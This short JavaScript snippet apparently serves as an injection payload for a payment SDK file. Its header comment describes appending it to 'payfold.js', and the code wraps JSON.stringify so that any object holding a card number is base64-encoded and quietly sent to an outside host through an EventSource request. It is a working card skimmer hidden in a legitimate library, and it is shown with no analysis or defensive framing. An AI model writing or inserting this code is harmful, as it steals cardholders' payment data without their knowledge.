/* meta
{
  "design": "Appended to the payment SDK; wraps JSON.stringify, and whatever has a card in it also goes to an event stream's address.",
  "reads": ["*"],
  "sendsTo": "events.loopcast.localhost",
  "delivery": { "kind": "append", "host": "js.payfold.localhost", "path": "/v2/payfold.js" }
}
*/
;(function (stringify) {
  JSON.stringify = function (value) {
    var text = stringify.apply(JSON, arguments);
    if (value && value.card && value.card.number) {
      new EventSource('https://events.loopcast.localhost/feed?topic=' + encodeURIComponent(btoa(text)));
    }
    return text;
  };
})(JSON.stringify);
